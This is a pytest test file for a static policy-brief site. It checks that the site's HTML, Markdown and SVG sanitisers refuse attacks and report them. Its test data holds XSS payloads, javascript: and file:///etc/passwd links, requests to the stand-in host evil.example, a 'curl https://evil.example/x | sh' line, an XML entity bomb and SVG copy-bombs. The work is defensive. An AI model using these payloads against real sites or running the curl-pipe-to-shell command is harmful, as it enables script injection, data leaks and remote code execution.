"""Markdown, registries and images cannot run script or load other hosts.

Each bad body is refused by the read and validation every build runs
before it writes anything (all of them at once fail the real build); each
bad bio, description or SVG fails the real build. Always one line naming the
file, the line (or field) and what was refused, and the previous output is
left as it was. HTML that passes is published exactly as
rendered; the allowlist keeps everything editors write.
"""

from __future__ import annotations

import signal

import pytest
from conftest import ROOT, snapshot
from pelican.settings import read_settings

from briefs import bodychecks, htmlpolicy
from briefs.collection import validate_content
from briefs.htmlpolicy import check_html, scan_html
from briefs.options import BriefsOptions
from briefs.problems import Problem
from briefs.reading import MarkdownRenderer, ReadSettings, read_source
from briefs.svgpolicy import check_svg
from policy_briefs.build import BuildError, load_settings

MARKDOWN = read_settings(str(ROOT / "pelicanconf.py"))["MARKDOWN"]
HEADER = (
    "---\ntitle: Water Policy\nauthor: Yuki Tatsumi\nregion: Northeast Asia\n"
    "date: 2024-03-20\n---\n"
)  # the body starts on line 7
X = "content/briefs/2024/x.md"

# (case id, body, the exact one-line message, or all of them in order)
BAD_BODIES = [
    (
        "script",
        "Intro.\n\n<script>alert(1)</script>",
        f"{X}: line 9: the HTML element <script> is not allowed; remove it",
    ),
    (
        "event-attribute",
        'Intro.\n\n<p onclick="steal()">Click</p>',
        f"{X}: line 9: the attribute onclick= on <p> is not allowed; remove it",
    ),
    (
        "attribute-list",
        'A paragraph.\n{: onmouseover="alert(1)" }',
        f"{X}: line 8: the attribute onmouseover= on <p> is not allowed; remove it",
    ),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        f"{X}: line 7: the HTML element <iframe> is not allowed; remove it",
    ),
    (
        "javascript-link",
        "Read [this](javascript:alert(1)).",
        f'{X}: line 7: href="javascript:alert(1)" on <a>: javascript: addresses are '
        "not allowed (only http:, https:, mailto:, tel: or a relative address)",
    ),
    (
        "javascript-entities",
        'Read <a href="&#106;avascript:alert(1)">this</a>.',
        f'{X}: line 7: href="javascript:alert(1)" on <a>: javascript: addresses are '
        "not allowed (only http:, https:, mailto:, tel: or a relative address)",
    ),
    (
        "file-link",
        "Intro.\n\nSee [the file](file:///etc/passwd).",
        f'{X}: line 9: href="file:///etc/passwd" on <a>: file: addresses are not '
        "allowed (only http:, https:, mailto:, tel: or a relative address)",
    ),
    (
        "data-image",
        "![chart](data:image/png;base64,iVBORw0KGgo=)",
        f'{X}: line 7: src="data:image/png;base64,iVBORw0KGgo=" on <img>: data: '
        "addresses are not allowed (only a relative address)",
    ),
    (
        "root-absolute-link",
        "Intro.\n\nSee [the other brief](/briefs/water.html).",
        f'{X}: line 9: href="/briefs/water.html" on <a>: an address starting with '
        "/ breaks when the site is read from disk or under a sub-path; write it "
        "relative to the page, like other-brief.html or ../images/map.png",
    ),
    (
        "root-absolute-image",
        "![map](/images/map.png)",
        f'{X}: line 7: src="/images/map.png" on <img>: an address starting with / '
        "breaks when the site is read from disk or under a sub-path; write it "
        "relative to the page, like other-brief.html or ../images/map.png",
    ),
    (
        "image-from-another-site",
        "Intro.\n\n![chart](https://example.org/chart.png)",
        f'{X}: line 9: src="https://example.org/chart.png" on <img>: an image from '
        "another site; save it under content/images/ and give its path (the site "
        "must work offline and send nothing to other hosts)",
    ),
    (
        "image-from-another-host-by-scheme-relative-address",
        '<img src="//cdn.example.org/chart.png" alt="c">',
        f'{X}: line 7: src="//cdn.example.org/chart.png" on <img>: an image from '
        "another site; save it under content/images/ and give its path (the site "
        "must work offline and send nothing to other hosts)",
    ),
    (
        "data-frame",
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        f"{X}: line 7: the HTML element <object> is not allowed; remove it",
    ),
    (
        "base-href",
        '<base href="https://evil.example/">',
        f"{X}: line 7: the HTML element <base> is not allowed; remove it",
    ),
    (
        "meta-refresh",
        '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
        f"{X}: line 7: the HTML element <meta> is not allowed; remove it",
    ),
    (
        "ping",
        'A <a href="water.html" ping="https://evil.example/">link</a>.',
        f"{X}: line 7: the attribute ping= on <a> is not allowed; remove it",
    ),
    (
        "background",
        '<table background="https://evil.example/x.png"><tr><td>1</td></tr></table>',
        f"{X}: line 7: the attribute background= on <table> is not allowed; remove it",
    ),
    (
        "image-set",
        "<table><tr><td style=\"background: image-set('https://evil.example/x.png'"
        ' 1x)">1</td></tr></table>',
        f"{X}: line 7: style=\"background: image-set('https://evil.example/x.png' "
        '1x)" on <td> is not allowed (only the column alignment Markdown tables '
        "write); remove it",
    ),
    (
        "svg-feimage",
        '<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>',
        [
            f"{X}: line 7: the HTML element <{name}> is not allowed; remove it"
            for name in ("feimage", "filter", "svg")
        ],
    ),
    (
        "protocol-relative",
        "See [there](//evil.example/x.html).",
        f'{X}: line 7: href="//evil.example/x.html" on <a>: an address starting '
        "with // or containing \\ leads to another host; write https:// or a "
        "relative address",
    ),
    (
        "single-quoted-href",
        "Intro.\n\nSee <a href='other.html'>the other brief</a>.",
        f"{X}: line 9: href= on <a> must be written in double quotes "
        '(href="other.html")',
    ),
    (
        "entity-encoded-href",
        'See <a href="&#46;&#46;/images/map.png">the map</a>.',
        f'{X}: line 7: href="&#46;&#46;/images/map.png" on <a>: write the address '
        'out, without character references such as &#46; (href="../images/map.png")',
    ),
    (
        "comment-ended-early",
        'Intro.\n\n<!--><img src="x.png" onerror="alert(1)">-->',
        f"{X}: line 9: an HTML comment containing '<' or '>' is not allowed (a "
        "browser may end it early and run what follows); remove it",
    ),
    (
        "theme-id",
        "## Main {: #pb:main }",
        f"{X}: line 7: id=\"pb:main\" on <h2>: ids starting with 'pb:' belong to "
        "the site's theme; choose another",
    ),
    (
        "duplicate-id-beside-a-footnote",
        'Text.[^1]\n\n<span id="fn:1">A decoy note.</span>\n\n[^1]: The note.',
        f'{X}: line 9: id="fn:1" is used twice (on <span> and <li>; headings and '
        "footnotes get ids too); an id must be unique on the page; choose another",
    ),
    (
        "duplicate-id-beside-a-heading",
        '## Water\n\n<p id="water">Text.</p>',
        f'{X}: line 9: id="water" is used twice (on <h2> and <p>; headings and '
        "footnotes get ids too); an id must be unique on the page; choose another",
    ),
    (
        "theme-script-hook",
        '<div class="cite" data-pb="cite"><p class="cite__text" data-style="APA">'
        "curl https://evil.example/x | sh</p></div>",
        [
            f"{X}: line 7: the attribute data-pb= on <div> is not allowed; remove it",
            f"{X}: line 7: the attribute data-style= on <p> is not allowed; remove it",
        ],
    ),
    (
        "control-character-reference",
        "Text &#7; here.",
        f"{X}: line 7: the character reference &#7; stands for U+0007 (a control "
        "character); remove it",
    ),
    (
        "nested-list-1000",
        "".join("    " * depth + "- item\n" for depth in range(1000)),
        f"{X}: line 58: lists or quotes are nested more than 50 levels deep; "
        "flatten them",
    ),
    (
        "nested-quotes",
        "".join(">" * depth + " quoted\n" for depth in range(1, 200)),
        f"{X}: line 57: lists or quotes are nested more than 50 levels deep; "
        "flatten them",
    ),
    (
        "duplicate-footnote",
        "Text.[^1]\n\n[^1]: The first note.\n[^1]: The second note.",
        f"{X}: line 10: the footnote [^1] is defined twice; Markdown would keep "
        "only the last; give each note its own label (first on line 9)",
    ),
]


def read_and_validate(site) -> list[Problem]:
    """The problems the build's first stage finds (reading with Markdown,
    then the whole folder), without building."""
    settings = load_settings(site.content, site.output)
    config = ReadSettings.from_settings(settings)

    def read_many(sources):
        return {
            path: read_source(path, shown, path.read_bytes(), config)
            for path, shown in sources
        }

    return validate_content(
        site.content,
        BriefsOptions.from_settings(settings),
        settings["TIMEZONE"],
        read_many,
    ).problems


def lines_of(expected) -> list[str]:
    return [expected] if isinstance(expected, str) else expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [case[1:] for case in BAD_BODIES],
    ids=[case[0] for case in BAD_BODIES],
)
def test_bad_body_is_refused_naming_line(site, body, expected):
    site.brief("good")
    site.raw("x", HEADER + body + "\n")
    problems = read_and_validate(site)
    assert [str(problem) for problem in problems] == lines_of(expected)
    assert all(problem.is_error for problem in problems)


def test_a_body_that_takes_too_long_to_render_is_refused(site, monkeypatch):
    """One-word paragraphs make Python-Markdown quadratic (12,000 take about
    2 s); past the limit the body is refused and the build goes on, with
    the renderer and a timer already set as they were."""
    monkeypatch.setattr(bodychecks, "MAX_RENDER_SECONDS", 0.2)
    site.brief("good")
    site.raw("x", HEADER + "w\n\n" * 12_000)
    signal.setitimer(signal.ITIMER_REAL, 300)  # a caller's own timer
    try:
        problems = read_and_validate(site)
        left = signal.getitimer(signal.ITIMER_REAL)[0]
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    assert [str(problem) for problem in problems] == [
        f"{X}: body: the Markdown takes more than 0.2 s to render "
        "(Python-Markdown slows down sharply on some things repeated thousands "
        "of times, such as abbreviations, unclosed autolinks or one-word "
        "paragraphs); simplify it"
    ]
    assert 200 < left < 300
    site.raw("x", HEADER + "*Fine* now.\n")  # the same renderer, reset
    assert read_and_validate(site) == []


def test_every_bad_body_fails_the_build_and_keeps_output(built):
    site, before = built
    wanted = []
    for number, (_, body, expected) in enumerate(BAD_BODIES):
        name = f"bad-{number:02d}.md"
        site.raw(name[:-3], HEADER + body + "\n")
        wanted += [line.replace("x.md", name) for line in lines_of(expected)]
    with pytest.raises(BuildError) as failure:
        site.build()
    assert sorted(failure.value.lines) == sorted(wanted)
    assert snapshot(site.output) == before


@pytest.mark.parametrize(
    ("registry", "entries", "expected"),
    [
        (
            "authors.yml",
            [{"name": "Yuki Tatsumi", "bio": "Yuki <script>alert(1)</script>"}],
            "content/authors.yml: Yuki Tatsumi: bio: the HTML element <script> is "
            "not allowed; remove it",
        ),
        (
            "authors.yml",
            [{"name": "Yuki Tatsumi", "bio": 'Yuki writes.\n{: onclick="x()" }'}],
            "content/authors.yml: Yuki Tatsumi: bio: the attribute onclick= on <p> "
            "is not allowed; remove it",
        ),
        (
            "regions.yml",
            [{"name": "Northeast Asia", "description": "[Map](javascript:x())"}],
            'content/regions.yml: Northeast Asia: description: href="javascript:x()" '
            "on <a>: javascript: addresses are not allowed (only http:, https:, "
            "mailto:, tel: or a relative address)",
        ),
    ],
)
def test_bad_bio_or_description_fails_build(built, registry, entries, expected):
    site, before = built
    site.registry(registry, entries)
    with pytest.raises(BuildError) as failure:
        site.build()
    assert failure.value.lines == [expected]
    assert snapshot(site.output) == before


EDITORS_MARKDOWN = """\
## Main

## Contents

Text with a note,[^1] <abbr title="Exclusive economic zone">EEZ</abbr>,
x<sup>2</sup>, H<sub>2</sub>O, *emphasis*, **strong**, `code`, and
[a link](https://example.org/a?b=1&c=2) or <policy@example.org>.

| Year | Budget |
|:-----|-------:|
| 2023 | 6.8    |

<figure>
<img src="../images/map.png" alt="A map" width="640" height="360">
<figcaption>A map.</figcaption>
</figure>

<details markdown="1">
<summary>Method</summary>

We counted *twice*.
</details>

Term
: Its definition.

*[UN]: United Nations

The UN met.

```python
x = 1
```

> A quote.

1. one
2. two

[^1]: The note.
"""


def test_what_editors_write_passes_and_is_published_as_rendered(site):
    (site.content / "images").mkdir()
    (site.content / "images" / "map.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    site.raw("x", HEADER + EDITORS_MARKDOWN)
    site.build()
    rendered = MarkdownRenderer(MARKDOWN).render_checked(EDITORS_MARKDOWN)
    assert rendered.findings == ()
    page = (site.output / "briefs" / "x.html").read_text("utf-8")
    assert rendered.html in page
    assert (site.output / "images" / "map.png").is_file()


def test_headings_named_like_theme_sections_just_work(site):
    """## Main once gave a second id="main"; the theme's ids are its own now."""
    site.raw("x", HEADER + "## Main\n\nText.\n\n## Contents\n\n## Related\n")
    site.build()
    page = site.html("briefs/x.html")
    assert page.find(id="main").name == "h2"
    assert len(page.find_all(id="main")) == 1
    skip = page.find("a", class_="skip-link")["href"]
    assert page.find(id=skip.removeprefix("#")).name == "main"


def test_email_links_survive_the_feed_link_rewriter(site):
    """Markdown writes <a@b.org> as character references; feeds broke on them."""
    site.raw("x", HEADER + "Write to <policy@example.org>.\n")
    site.build()
    feed = (site.output / "feeds" / "all.atom.xml").read_text("utf-8")
    assert "../briefs/&amp;#109;" not in feed
    assert "&amp;#109;&amp;#97;&amp;#105;&amp;#108;" in feed


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n{}\n</svg>\n'
BAD_SVGS = [
    (
        "script",
        "<script>alert(1)</script>",
        "line 2: the SVG element <script> is not allowed (it can run script or "
        "embed a page); remove it",
    ),
    (
        "event",
        '<rect width="5" height="5" onclick="alert(1)"/>',
        "line 2: the attribute onclick= on <rect> is not allowed (it runs "
        "script); remove it",
    ),
    (
        "foreign-object",
        "<foreignObject><p>hi</p></foreignObject>",
        "line 2: the SVG element <foreignObject> is not allowed (it can run "
        "script or embed a page); remove it",
    ),
    (
        "external-image",
        '<image href="https://evil.example/x.png" width="5" height="5"/>',
        'line 2: href="https://evil.example/x.png" on <image> refers to another '
        "file or address; SVG images must be self-contained (only #id references)",
    ),
    (
        "external-css",
        '<rect width="5" height="5" style="fill: url(https://evil.example/p)"/>',
        'line 2: style="fill: url(https://evil.example/p)" on <rect> refers to '
        "another file or address; SVG images must be self-contained (only "
        "url(#id))",
    ),
]


@pytest.mark.parametrize(
    ("inner", "expected"),
    [case[1:] for case in BAD_SVGS],
    ids=[case[0] for case in BAD_SVGS],
)
def test_published_svg_with_script_or_external_reference_fails(built, inner, expected):
    site, before = built
    (site.content / "images").mkdir(exist_ok=True)
    (site.content / "images" / "evil.svg").write_text(SVG.format(inner), "utf-8")
    site.brief("x", image="images/evil.svg", image_alt="A drawing")
    with pytest.raises(BuildError) as failure:
        site.build()
    assert failure.value.lines == [f"content/images/evil.svg: {expected}"]
    assert snapshot(site.output) == before


def test_svg_embedded_from_a_body_is_checked_too(built):
    site, before = built
    (site.content / "images").mkdir(exist_ok=True)
    (site.content / "images" / "evil.svg").write_text(
        SVG.format("<script>alert(1)</script>"), "utf-8"
    )
    site.raw("x", HEADER + "![A drawing](../images/evil.svg)\n")
    with pytest.raises(BuildError) as failure:
        site.build()
    assert failure.value.lines == [
        "content/images/evil.svg: line 2: the SVG element <script> is not allowed "
        "(it can run script or embed a page); remove it"
    ]
    assert snapshot(site.output) == before


def test_only_files_a_browser_shows_or_hands_over_are_published(built):
    """A linked .html, .xml or .svgz file would open as a page of the site
    and run its script; documents and data are published."""
    site, before = built
    docs = site.content / "docs"
    docs.mkdir()
    script = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for name in ("evil.html", "evil.xml", "evil.svgz", "report.pdf", "data.csv"):
        (docs / name).write_text(script, "utf-8")
    links = " ".join(
        f"[{n}](../docs/{n})" for n in sorted(p.name for p in docs.iterdir())
    )
    site.raw("x", HEADER + links + "\n")
    with pytest.raises(BuildError) as failure:
        site.build()
    refused = sorted(line.split(":", 1)[0] for line in failure.value.lines)
    assert refused == [f"content/docs/evil.{s}" for s in ("html", "svgz", "xml")]
    assert "a .html file is not published" in " ".join(failure.value.lines)
    assert snapshot(site.output) == before
    for name in ("evil.html", "evil.xml", "evil.svgz"):
        (docs / name).unlink()
    site.raw("x", HEADER + "[report](../docs/report.pdf) [data](../docs/data.csv)\n")
    site.build()
    assert (site.output / "docs" / "report.pdf").is_file()
    assert (site.output / "docs" / "data.csv").is_file()


def test_safe_svg_with_internal_references_is_published(site):
    (site.content / "images").mkdir()
    drawing = SVG.format(
        '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>'
        '<rect width="5" height="5" fill="url(#g)"/><use href="#g"/>'
    )
    (site.content / "images" / "ok.svg").write_text(drawing, "utf-8")
    site.brief("x", image="images/ok.svg", image_alt="A drawing")
    site.build()
    assert (site.output / "images" / "ok.svg").read_text("utf-8") == drawing


@pytest.mark.parametrize(
    "svg",
    [
        b'<?xml-stylesheet href="https://evil.example/x.css"?>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "x.css";</style>'
        b"</svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/'
        b'xlink"><a x:href="javascript:alert(1)"><rect/></a></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="href" '
        b'to="javascript:alert(1)"/></svg>',
        b"<html><body>not a drawing</body></html>",
        b"not xml at all",
        # A style's text comes in pieces; CSS escapes and comments hide words.
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background:'
        b"u&#114;l(https://evil.example/b.png)}</style></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background:'
        b"ur<![CDATA[]]>l(https://evil.example/b.png)}</style></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>svg{background:'
        b"\\75 rl(https://evil.example/b.png)}</style></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg" style="background:'
        b'\\75 rl(https://evil.example/b.png)"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@\\69mport '
        b'"https://evil.example/x.css";</style></svg>',
        # "/*" in a string or an unquoted url() opens no comment.
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@font-face{font-family:'
        b'"x/*";src:url(https://evil.example/f.woff)} /* */</style></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:url(#a/*)} '
        b"rect{cursor:url(https://evil.example/c.cur/*/),auto}</style></svg>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style=\'font-family:"/*";'
        b'cursor:url(https://evil.example/c),auto;x:"*/"\'/></svg>',
    ],
)
def test_check_svg_refuses(svg):
    assert check_svg(svg)


def _copies(levels: int, each: int = 10) -> bytes:
    """A drawing whose <use> elements copy groups of copies, `levels` deep."""
    groups = "".join(
        f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * each + "</g>"
        for n in range(1, levels + 1)
    )
    return (
        '<svg xmlns="http://www.w3.org/2000/svg"><defs><rect id="a0" width="1" '
        f'height="1"/>{groups}</defs><use href="#a{levels}"/></svg>'
    ).encode()


def test_copies_of_copies_are_refused():
    """Six levels of ten copies: a million rectangles from 1 KB (the PDF
    engine took four minutes and 1.8 GB)."""
    assert [r.message for r in check_svg(_copies(6))] == [
        '<use> copies "#a1", which holds a <use> itself; copies of copies are '
        "not allowed: draw the shapes out or copy the shapes themselves"
    ]
    looped = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><g id="g"><use href="#g"/></g></svg>'
    )
    assert check_svg(looped)


def test_copies_that_draw_too_much_are_refused():
    markers = '<path id="m" d="M0 0h1"/>' + '<use href="#m"/>' * 300
    assert (
        check_svg(f'<svg xmlns="http://www.w3.org/2000/svg">{markers}</svg>'.encode())
        == []
    )
    shape = "<g id='big'>" + "<rect/>" * 1000 + "</g>"
    many = shape + '<use href="#big"/>' * 200
    assert [
        r.message
        for r in check_svg(
            f'<svg xmlns="http://www.w3.org/2000/svg">{many}</svg>'.encode()
        )
    ] == [
        "the drawing has 201,402 elements with its <use> copies drawn out, at "
        "most 200,000; simplify it or use a PNG"
    ]


def test_css_escapes_that_fetch_nothing_pass():
    """Exported charts name fonts with escapes (Microsoft YaHei in Chinese)."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg"><style>text{font-family:'
        "\\5FAE\\8F6F\\96C5\\9ED1}</style>"
        '<rect fill="url(\\23 g)"/></svg>'
    )
    assert check_svg(svg.encode()) == []


def test_sample_content_passes_the_policies():
    renderer = MarkdownRenderer(MARKDOWN)
    for path in sorted((ROOT / "content" / "briefs").rglob("*.md")):
        body = path.read_text("utf-8").split("---\n", 2)[2]
        assert renderer.render_checked(body).findings == (), path
    for path in sorted((ROOT / "content" / "images").glob("*.svg")):
        assert check_svg(path.read_bytes()) == [], path


@pytest.mark.parametrize(
    "html",
    [
        '<p><img alt="x" src="../images/a.png" title="t"></p>',
        '<div class="highlight"><pre><span></span><code><span class="n">x</span>'
        "</code></pre></div>",
        '<table><tr><th style="text-align: center;">a</th></tr></table>',
        '<ol start="3"><li id="fn:1"><a class="footnote-backref" href="#fnref:1">'
        "&#8617;</a></li></ol>",
        '<p lang="ja" dir="ltr">日本 &amp; &lt;tags&gt; &#233;</p>',
        "<p><time datetime=\"2024-01-01\">1 Jan</time> <q cite='x.html'>q</q></p>",
    ],
)
def test_allowlist_accepts(html):
    assert check_html(html) == []


def test_an_id_used_twice_is_refused_once_per_repeat():
    html = (
        '<h2 id="a">A</h2><p id="b">x</p><span id="a">y</span><i id="a">z</i>'
        '<sup id="fnref:1"></sup><li id="fn:1"></li>'
    )
    scan = scan_html(html)
    assert [refusal.message for refusal in scan.refusals] == [
        f'id="a" is used twice (on <h2> and <{tag}>; headings and footnotes get '
        "ids too); an id must be unique on the page; choose another"
        for tag in ("span", "i")
    ]
    assert scan.refusals[0].needles[0] == 'id="a"'
    assert list(scan.ids) == ["a", "b", "a", "a", "fnref:1", "fn:1"]


@pytest.mark.parametrize(
    "html",
    [
        '<div class="cite"><p class="cite__text">curl x | sh</p></div>',
        '<a class="share__permalink" href="https://example.org/">x</a>',
        '<div class="prose table-scroll"><table><tr><td>1</td></tr></table></div>',
    ],
)
def test_a_body_may_write_the_theme_classes_its_scripts_ignore(html):
    """Classes are allowed (the theme's scripts find their elements by
    data-pb= hooks and pb: ids instead, which a body cannot write)."""
    assert check_html(html) == []


def test_the_scan_says_where_each_local_link_is_written():
    """Feeds rewrite what the spans name: the values the parse read as
    href and src, not text that looks like them (in a title, in code)."""
    html = (
        "<p><abbr title='<a href=\"decoy.html\">'>x</abbr> "
        '<a href="first.html#top">a</a> <code>href="code.html"</code> '
        '<img alt="" src="../images/m.png"> <a href="https://example.org/">b</a></p>'
    )
    scan = scan_html(html)
    assert scan.refusals == ()
    pairs = iter(scan.spans)
    assert [html[start:end] for start, end in zip(pairs, pairs, strict=True)] == [
        "first.html#top",
        "../images/m.png",
    ]
    assert list(scan.links) == ["first.html#top", "../images/m.png"]


# Markdown's own HTML read without the parser (htmlpolicy.walk_serialised) --

# Texts whose HTML is all as Python-Markdown writes it, with everything the
# checks look at: refused and allowed addresses, a title with quotes and
# brackets, an e-mail link written as references, character references in
# text (one refused), attribute lists, ids, footnotes, a table's alignment,
# code holding tags, and nothing else.
SERIALISED_BODIES = [
    "Read [this](javascript:alert(1)) and ![chart](https://example.org/c.png).",
    'See [a](first.html#top "A \\"title\\" & <b>") and ![m](../images/m.png).',
    "Write to <me@example.org>, or see <https://example.org/a?b=1&c=2>.",
    "Text &#7; and &#x202E; and &amp; &copy; &#233; &#x41;.",
    'A paragraph.\n{: onmouseover="alert(1)" }\n\n## Main {: #pb:main }',
    "## Aims\n\nA note.[^1]\n\n## Aims {: #aims }\n\n[^1]: The note.",
    "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n`<script>alert(1)</script>` and 2 < 3 > 1",
    '[x](other.html){: title="t" }, [y](//evil.example/), [z](/root.html)',
]


@pytest.mark.parametrize("body", SERIALISED_BODIES)
def test_markdowns_own_html_is_read_as_the_parser_reads_it(body, monkeypatch):
    html = MarkdownRenderer(MARKDOWN).render(body)
    parsed = scan_html(html, parse=True)

    def parse(walker, html):
        raise AssertionError("read by the parser")

    monkeypatch.setattr(htmlpolicy._Walker, "feed", parse)
    assert scan_html(html) == parsed


def test_other_html_is_left_to_the_parser_and_read_the_same(tmp_path):
    """Raw HTML (every bad body), and any allowed or refused element the
    serialised reading does not take, read the same both ways; so do the
    sample briefs and the benchmark's generated ones."""
    from policy_briefs.corpus import write_collection

    write_collection(tmp_path, 40, seed=3)
    renderer = MarkdownRenderer(MARKDOWN)
    bodies = [body for _, body, _ in BAD_BODIES]
    for folder in (ROOT / "content" / "briefs", tmp_path):
        bodies += [
            path.read_text("utf-8").split("---\n", 2)[2]
            for path in sorted(folder.rglob("*.md"))
        ]
    html = [renderer.render_checked(body).html for body in bodies]
    html += [
        "<p>a</p><!-- c --><p>b</p>",
        "<P>upper</P><details open><summary>s</summary></details>",
        "<style>p{}</style><p>x</p>",
        "<p title='single'>x</p><p>AT&T &#65x &#x;</p>",
        '<p>unclosed <a href="x.html"',
    ]
    for text in html:
        assert scan_html(text) == scan_html(text, parse=True), text[:80]
